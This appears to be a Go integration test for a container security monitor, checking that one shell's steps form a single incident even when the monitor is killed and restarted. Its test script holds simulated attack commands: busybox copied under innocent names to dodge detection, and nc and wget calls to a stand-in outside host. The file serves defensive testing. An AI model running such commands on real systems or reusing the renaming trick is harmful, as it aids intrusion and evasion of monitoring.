package main

import (
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/breakwater-sec/breakwater/internal/event"
	"github.com/breakwater-sec/breakwater/internal/store"
)

// stories lists what happened, as the command line tells it.
func (h *wholeHost) stories(args ...string) []store.Story {
	h.t.Helper()
	out, errs, code := h.run(append([]string{"incidents", "--format=json"}, args...)...)
	var list []store.Story
	if err := json.Unmarshal([]byte(out), &list); err != nil || code != exitOK {
		h.t.Fatalf("incidents: %d %s %s %v", code, out, errs, err)
	}
	return list
}

// TestOneAttackIsOneStory: what one shell does in a container is one incident of
// several steps, also when Breakwater is killed in the middle; another shell's are
// another's.
func TestOneAttackIsOneStory(t *testing.T) {
	h := newWholeHost(t)
	h.start("--gate=no")
	h.box("web")
	attack := `mkdir /tmp/d && cp /bin/busybox /tmp/d/touch && /tmp/d/touch /w/harm
/bin/nc -w 1 192.0.2.1 9
touch /w/half; while [ ! -e /w/go ]; do sleep 0.1; done
cp /bin/busybox /tmp/d/wget && /tmp/d/wget -h
/bin/wget -T 1 http://192.0.2.1:9/`
	h.engine.MustRun(t, "exec", "-d", "web", "sh", "-c", attack)
	h.until("the first half is one story", func() bool {
		list := h.stories("--container=web")
		return h.marked("half") && len(list) == 1 && list[0].Steps >= 2
	})
	first := h.stories("--container=web")[0]
	h.kill()
	h.start("--gate=no")
	if err := os.WriteFile(filepath.Join(h.witness, "go"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	h.until("the second half is told of", func() bool {
		return len(h.incidents(url.Values{"container": {"web"}, "text": {"/tmp/d/wget"}})) > 0
	})
	all := h.stories("--container=web")
	if len(all) != 1 || all[0].ID != first.ID || all[0].Steps <= first.Steps || h.marked("harm") {
		t.Fatalf("after a kill: %d stories: %+v, before %+v", len(all), all, first)
	}
	out, errs, code := h.run("incidents", "show", fmt.Sprint(all[0].Newest.ID))
	for _, want := range []string{"Processes below", "in `web` did", "1. ", "2. ", "network-tool", "policy drift", "done: killed", "why:"} {
		if code != exitOK || !strings.Contains(out, want) {
			t.Errorf("the story has no %q: %d %s\n%s", want, code, errs, out)
		}
	}
	h.engine.Run("exec", "web", "nc", "-w", "1", "192.0.2.1", "9")
	h.until("another shell's act is another story", func() bool { return len(h.stories("--container=web")) == 2 })
	if _, errs, code := h.run("incidents", "show", "x"); code != exitUsage || !strings.Contains(errs, "by its number") {
		t.Errorf("%d %s", code, errs)
	}
	if _, errs, code := h.run("incidents", "show", "99999"); code == exitOK || !strings.Contains(errs, "99999") {
		t.Errorf("%d %s", code, errs)
	}
}

// TestResponsesAreToldWhole: also one that was carried out has something to say.
func TestResponsesAreToldWhole(t *testing.T) {
	inc := store.Incident{ID: 1}
	inc.Responses = []event.Response{
		{Effect: event.EffectThrottle, Done: true, Message: "On cgroup v1 this holds only while the host is short of memory."},
		{Effect: event.EffectKill, Done: true}, {Effect: event.EffectStop, Message: "no engine"},
	}
	var out strings.Builder
	if err := writeStory(&out, toldStory{Incidents: []store.Incident{inc}}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"throttle done: On cgroup v1", "kill done; ", "stop failed: no engine"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("no %q in\n%s", want, out.String())
		}
	}
}
